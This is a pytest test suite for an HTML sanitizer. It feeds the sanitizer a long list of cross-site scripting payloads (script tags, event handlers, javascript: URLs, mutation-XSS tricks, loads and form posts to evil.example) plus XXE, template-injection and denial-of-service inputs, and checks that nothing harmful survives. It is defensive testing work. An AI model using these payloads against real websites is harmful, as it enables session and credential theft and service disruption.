"""What clean leaves of hostile, huge and broken HTML; cleaned once, a text stays as it is."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from articles.text import markup

# Each tries to run a script, to load a foreign thing, to lay something over the page or to send a form.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<<script>alert(1);//<</script>",
    "<script\x0c>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img src="x" ONERROR="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=x\nonerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    '<img alt="`><script>alert(1)</script>" src=x>',
    "<img alt='\"><script>alert(1)</script>' src=x>",
    '<img data-file="1" alt="></p><script>alert(1)</script>">',
    '<img data-file="1&quot; onerror=&quot;alert(1)" src="x">',
    '<img srcset="x 1x" src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src=" data:image/svg+xml;base64,AAAA">',
    '<img src="javascript:alert(1)">',
    "<image src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href="#" onclick="alert(1)" onfocus=alert(1) autofocus>x</a>',
    '<a href="x" ping="https://evil.example/" target="_blank">x</a>',
    "<p onmouseover=alert(1)>x</p>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p id="body" class="overlay" name="cookie">x</p>',
    '<p background="https://evil.example/x" contenteditable is=x slot=y part=z>x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>p{background:url(javascript:alert(1))}</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style></style/><img src=x onerror=alert(1)>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="x"></applet>',
    '<form action="https://evil.example/"><input name=password><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1)></textarea><select onfocus=alert(1)><option>x</select>",
    "<isindex action=javascript:alert(1) type=image>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg><set attributeName="href" to="javascript:alert(1)"></svg>',
    '<svg><use href="data:image/svg+xml;base64,AAAA#x"></use></svg>',
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<textarea></textarea/><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1 ><img src=x onerror=alert(1)>?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><p>&y;</p>",
    "</p onclick=alert(1)><br onclick=alert(1)><hr onclick=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    '<video poster="javascript:alert(1)"></video>',
    "<body onload=alert(1)><html onclick=alert(1)>",
    "<x onclick=alert(1)>x</x><custom-element onclick=alert(1)>x</custom-element>",
    "<dialog open onclose=alert(1)>x</dialog>",
    '<td background="javascript:alert(1)">x</td>',
    '<table background="javascript:alert(1)"><tr><td style="x" onclick=alert(1)>x</td></tr></table>',
    "<keygen onfocus=alert(1) autofocus>",
    "<a href=`javascript:alert(1)`>x</a>",
    "<p/onclick=alert(1)>x",
    "<p onclick\x0b=alert(1)>x",
    '<p title="<img src=x onerror=alert(1)>">x</p>',
    "<b <script>alert(1)</script>0",
    "<bgsound src=javascript:alert(1)><layer src=javascript:alert(1)></layer>",
    "<blockquote cite=javascript:alert(1)>x</blockquote><q cite=javascript:alert(1)>x</q>",
]
ADDRESSES = {"href", "src"}


class Found(HTMLParser):
    """Elements and attributes as a browser's parser of another make sees them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.addresses: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.attributes |= {(tag, name) for name, _value in attrs}
        self.addresses += [value or "" for name, value in attrs if name in ADDRESSES]

    def handle_decl(self, decl: str) -> None:
        self.elements.add(f"!{decl}")

    def handle_comment(self, data: str) -> None:
        self.elements.add(f"!--{data}")


def is_harmless(html: str) -> bool:
    found = Found(html)
    allowed = {(tag, name) for tag, names in markup.ATTRIBUTES.items() for name in names} | {("a", "rel")}
    addresses = [re.sub(r"[\x00-\x20]", "", address) for address in found.addresses]
    schemes = {match[1].lower() for address in addresses if (match := re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", address))}
    return found.elements <= markup.TAGS and found.attributes <= allowed and schemes <= markup.SCHEMES


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left(html: str) -> None:
    cleaned = markup.clean(html)

    assert is_harmless(cleaned), cleaned
    assert markup.clean(cleaned) == cleaned


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left_inside_other_elements(html: str) -> None:
    for before, after in [
        ("<p>", "</p>"),
        ("<table><tr><td>", "</td></tr></table>"),
        ("<table>", "</table>"),
        ("<ul><li><strong>", ""),
        ('<a href="https://example.org/" title="', '">x</a>'),
        ("<!-- ", " -->"),
        ("<svg><desc>", "</desc></svg>"),
    ]:
        cleaned = markup.clean(before + html + after)
        assert is_harmless(cleaned), cleaned
        assert markup.clean(cleaned) == cleaned


@pytest.mark.parametrize(
    "text",
    ["{{ 7*7 }}", "{% include '/etc/passwd' %}", "${7*7}", "<%= 7*7 %>", "{{ article.delete }}", "#{7*7}"],
)
def test_marks_of_templates_stay_text(text: str) -> None:
    assert markup.plain(markup.clean(f"<p>{text}</p>")) == text


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>The text.</p>", "<p>The text.</p>"),
        ("<p>校运会<strong>开幕</strong>。</p>", "<p>校运会<strong>开幕</strong>。</p>"),
        ("<p>a &amp; b &lt; c</p>", "<p>a &amp; b &lt; c</p>"),
        ("<p>a & b < c</p>", "<p>a &amp; b &lt; c</p>"),
        ("<b>bold</b> <i>leaning</i>", "<strong>bold</strong> <em>leaning</em>"),
        ("<h1>Title</h1><h5>Small</h5>", "<h2>Title</h2><h4>Small</h4>"),
        ('<p align="center" class="MsoNormal"><font color="red">x</font></p>', "<p>x</p>"),
        ("<div>one</div><div>two</div>", "one\n\ntwo"),
        ("<p>one<p>two", "<p>one</p><p>two</p>"),
        ("<ul><li>one<li>two<ol><li>three</ul>", "<ul><li>one</li><li>two<ol><li>three</li></ol></li></ul>"),
        ("<p><b>one</p><p>two</b></p>", "<p><strong>one</strong></p><p>two</p>"),
        ("<b><i>one</b>two</i>", "<strong><em>one</em></strong>two"),
        ("<p>one<div>two</div>three</p>", "<p>one</p>\ntwo\nthree"),
        ("<p>one<h2>two</h2>", "<p>one</p><h2>two</h2>"),
        ("one<!-- two -->three<!-- four", "onethree"),
        ("one<o:p></o:p> two", "one two"),
        ("one</p></td></span> two", "one two"),
        (
            "<a href='/a'>one<a href='/b'>two</a>",
            '<a href="/a" rel="noopener">one</a><a href="/b" rel="noopener">two</a>',
        ),
        ("<pre>\n\none\n  two</pre>", "<pre>one\n  two</pre>"),
        ("<p>one</p><hr><p>two<br/>three</p>", "<p>one</p><hr><p>two<br>three</p>"),
        ("x <y", "x"),
        ("\x00one\ud800", "one\ufffd"),
        ("", ""),
        ("  \n ", ""),
    ],
)
def test_broken_and_plain_html_becomes_well_nested(html: str, expected: str) -> None:
    assert markup.clean(html) == expected


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        (
            "<table><tr><td>a<td>b<tr><th scope=row colspan=2>c</table>",
            '<table><tbody><tr><td>a</td><td>b</td></tr><tr><th scope="row" colspan="2">c</th></tr></tbody></table>',
        ),
        (
            "<table><caption>a</caption><thead><tr><th>b</thead><tbody><tr><td>c</td></tr></tbody></table>",
            "<table><caption>a</caption><thead><tr><th>b</th></tr></thead><tbody><tr><td>c</td></tr></tbody></table>",
        ),
        ("<table>a<tr>b<td>c", "<table><tbody><tr><td>a</td></tr><tr><td>b</td><td>c</td></tr></tbody></table>"),
        ("<table><td>a</table>", "<table><tbody><tr><td>a</td></tr></tbody></table>"),
        ("<tr><td>a</td></tr>", "a"),
        (
            "<b><table><tr><td>a</b>b</td></tr></table>",
            "<strong><table><tbody><tr><td>ab</td></tr></tbody></table></strong>",
        ),
    ],
)
def test_tables_have_rows_of_cells_and_nothing_else(html: str, expected: str) -> None:
    assert markup.clean(html) == expected


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<p><img data-file="7" src="/m/7.jpg" alt="a"></p>', '<img data-file="7" src="/m/7.jpg" alt="a">'),
        ("<p>a</p><img data-file=7><p>b</p>", '<p>a</p><img data-file="7"><p>b</p>'),
        ("<p>a <img data-file=7> b</p>", '<p>a </p><img data-file="7"><p> b</p>'),
        ("<p><img data-file=7>b</p>", '<img data-file="7"><p>b</p>'),
        ("<p>a<img data-file=7></p>", '<p>a</p><img data-file="7">'),
        ("<p><br><img data-file=7> <br>b</p>", '<img data-file="7"><p>b</p>'),
        ("<p><img data-file=7> <img data-file=8></p>", '<img data-file="7"><img data-file="8">'),
        ('<p><a href="/x"><img data-file=7></a></p>', '<img data-file="7">'),
        (
            "<p>a <strong>b<img data-file=7>c</strong> d</p>",
            '<p>a <strong>b</strong></p><img data-file="7"><p><strong>c</strong> d</p>',
        ),
        ("<p>a<strong><img data-file=7></strong>b</p>", '<p>a</p><img data-file="7"><p>b</p>'),
        ("<h2>a<img data-file=7></h2>", '<h2>a</h2><img data-file="7">'),
        ("<ul><li>a<img data-file=7>b</li></ul>", '<ul><li>a<img data-file="7">b</li></ul>'),
        (
            "<figure><img data-file=7><figcaption>c</figcaption></figure>",
            '<figure><img data-file="7"><figcaption>c</figcaption></figure>',
        ),
        ("<p>a</p><figure><p><img data-file=7></p></figure>", '<p>a</p><figure><img data-file="7"></figure>'),
    ],
)
def test_a_picture_is_a_block_of_its_own(html: str, expected: str) -> None:
    assert markup.clean(html) == expected


@pytest.mark.parametrize(
    "tag",
    [
        "<img>",
        '<img alt="only words">',
        '<img src="">',
        '<img src="data:image/png;base64,AAAA">',
        '<img src="javascript:alert(1)">',
        '<img data-file="">',
        '<img data-file="seven">',
        '<img data-file="0">',
        '<img data-file="7;8">',
        '<img data-file="-7">',
        '<img data-file="٧">',
        '<img data-file="99999999999999999999">',
    ],
)
def test_a_picture_with_neither_number_nor_address_is_dropped(tag: str) -> None:
    assert markup.clean(f"a{tag}b") == "ab"


def test_a_picture_with_an_address_keeps_no_wrong_number() -> None:
    assert markup.clean('<img data-file="seven" src="/m/7.jpg">') == '<img src="/m/7.jpg">'


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p></p><p>&nbsp;</p><p>a</p><p> <br> </p> <p></p>", "<p>a</p>"),
        ("<p>a</p><p></p><p>b</p>", "<p>a</p><p></p><p>b</p>"),
        ("<p></p>", ""),
        ("<p></p>a<p></p>", "a"),
        ("<script>alert(1)</script>", ""),
        ("<p>a</p> \n", "<p>a</p>"),
    ],
)
def test_empty_paragraphs_at_both_ends_are_dropped(html: str, expected: str) -> None:
    assert markup.clean(html) == expected


@pytest.mark.parametrize(
    ("address", "kept"),
    [
        ("https://example.org/a?b=1&c=2#d", True),
        ("http://example.org/", True),
        ("mailto:news@example.org", True),
        ("tel:+86123", True),
        ("/articles/7/x/", True),
        ("#notes", True),
        ("../a", True),
        ("ftp://example.org/", False),
        ("javascript:alert(1)", False),
    ],
)
def test_a_link_keeps_a_sound_address_and_opens_nothing_back(address: str, kept: bool) -> None:
    href = ' href="{}"'.format(address.replace("&", "&amp;")) if kept else ""
    assert markup.clean(f'<a href="{address}" target="_blank" rel="opener">x</a>') == f'<a{href} rel="noopener">x</a>'


# What a hostile or a broken program may send.
ATTACKS = {
    "nested elements": "<em>" * 50_000,
    "nested divisions": "<div>" * 50_000 + "a",
    "nested elements closed by others": "<em></x>" * 50_000,
    "ends that do not reach over a block": "<em><blockquote></em></blockquote>" * 30_000,
    "nested lists": "<ul><li>" * 50_000,
    "list items in turn": "<li><dd>" * 50_000,
    "cells without a table": "<td><em></td>" * 50_000,
    "nesting behind a comment's quote": '<!-- <a x="-->' + "<em>" * 50_000 + '<a y="">',
    "nesting inside a raw element": "<style><a x='</style>" + "<em>" * 50_000 + "'>",
    "tables in tables": "<table><tr><td>" * 50_000,
    "text in a table outside its cells": "<table>" + "<br>a" * 50_000,
    "elements opened anew in each paragraph": "<p>" + "<s><u><sub><sup>" * 20 + "a</p>" + "<p>a" * 60_000,
    "pictures in nested elements": "<p>" + "<u>" * 90 + "a<img src=x>" * 60_000,
    "a million ampersands": "&" * 1_000_000,
    "character references": "&nbsp;" * 90_000,
    "hard blanks": "\u00a0" * 780_000,
    "hard blanks in an attribute": '<img src="/a" alt="' + "\u00a0" * 390_000 + '">',
    "brackets that grow": ">" * 4_000_000,
    "attributes": "<p " + " ".join(f"a{number}=1" for number in range(50_000)) + ">a</p>",
    "attributes without values": "<p " + " ".join(f"a{number}" for number in range(50_000)) + ">a</p>",
    "attributes with brackets": "<p " + " ".join(f'a{number}="<>"' for number in range(50_000)) + ">a</p>",
    "few attributes of many elements": ("<a" + " b" * 60 + ">") * 39_000,
    "400 kB of ends": "</p>" * 100_000,
    "ends of a closed element": "<b><table><tr><td>" + "<u>" * 80 + "</b>" * 90_000,
    "5 MB of blanks": " " * 5_000_000,
    "a paragraph of blanks": "<p>" + " " * 4_999_990,
    "empty paragraphs": "<p></p>" * 99_000,
    "open quotes": '<a x="' * 100_000,
    "open tags": "<a" * 100_000,
    "open comments": "<!--" * 100_000,
    "bare brackets": "<" * 199_000,
    "too many brackets": "<" * 4_000_000,
    "raw elements that never end": "<script>" * 100_000,
    "one long word": "a" * 5_000_000,
    "too much": "a" * 5_000_001,
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_huge_text_is_refused_or_cleaned(name: str) -> None:
    refusals: list[markup.MarkupRefused] = []
    cleaned = ""
    try:
        cleaned = markup.clean(ATTACKS[name])
    except markup.MarkupRefused as refused:
        refusals.append(refused)

    assert all(refused.found > refused.most for refused in refusals)
    assert is_harmless(cleaned)


@pytest.mark.parametrize(
    ("html", "reason"),
    [
        ("a" * 5_000_001, "the number of characters"),
        ("&" * 100_001, "the number of character references"),
        ("\u00a0" * 100_001, "the number of character references"),
        ("<p>" + "&amp;" * 50_001 + "\u00a0" * 50_000, "the number of character references"),
        (">" * 2_000_000, "the number of characters"),
        ("<p>a" * 150_000, "the number of elements"),
        ("<em>" * 101, "the depth of nested elements"),
        ("<p " + "a " * 65 + ">", "the number of attributes of one element"),
        ("<" * 200_001, "the number of elements"),
        (("<a" + " b" * 60 + ">") * 7_000, "the number of attributes"),
    ],
)
def test_a_refusal_names_its_reason(html: str, reason: str) -> None:
    with pytest.raises(markup.MarkupRefused) as refused:
        markup.clean(html)
    assert refused.value.reason == reason
    assert str(refused.value).startswith(f"The text is refused: {reason} is ")


def test_long_but_ordinary_texts_are_taken() -> None:
    paragraphs = "<p>校运会 was opened on Friday.</p>" * 20_000
    rows = "<table><tbody>" + "<tr><td>1</td><td>2</td></tr>" * 10_000 + "</tbody></table>"
    old = "<p>one<br>two" * 5_000

    numbered = "<p>" + "&#26657;&#36816;&#20250; " * 60_000 + "</p>"
    companies = "<p>Smith &amp; Sons, 5 &lt; 6</p>" * 40_000

    assert markup.clean(numbered) == "<p>" + "校运会 " * 60_000 + "</p>"
    assert markup.clean(companies) == companies
    assert markup.clean(paragraphs) == paragraphs
    assert markup.clean(rows) == rows
    assert markup.clean(old) == "<p>one<br>two</p>" * 5_000


NAMES = sorted({*markup.TAGS, "div", "b", "span", "svg", "style", "script", "pre", "td", "form", "title", "math"})
SOUP = st.lists(
    st.one_of(
        st.sampled_from([f"<{name}>" for name in NAMES] + [f"</{name}>" for name in NAMES]),
        st.sampled_from(
            ["<!--", "-->", "<![CDATA[", "&nbsp;", "&lt;", "&", "<", ">", '"', "'", "\n", " ", "\t", "\x00", "\u3000",
             '<img data-file="7">', "<img src=x>", "<img alt='<p>'", "<a href='", "<p x=", "&#13;", "<br/>", "{{"]
        ),
        st.text(max_size=6),
    ),
    max_size=40,
).map("".join)  # fmt: skip


@given(SOUP)
@settings(max_examples=600, deadline=None)
def test_cleaning_twice_changes_nothing(html: str) -> None:
    cleaned = markup.clean(html)

    assert markup.clean(cleaned) == cleaned
    assert is_harmless(cleaned)


@given(SOUP)
@settings(max_examples=300, deadline=None)
def test_a_clean_text_holds_no_picture_inside_a_paragraph(html: str) -> None:
    for paragraph in re.findall(r"<p>.*?</p>", markup.clean(html), re.DOTALL):
        assert "<img" not in paragraph
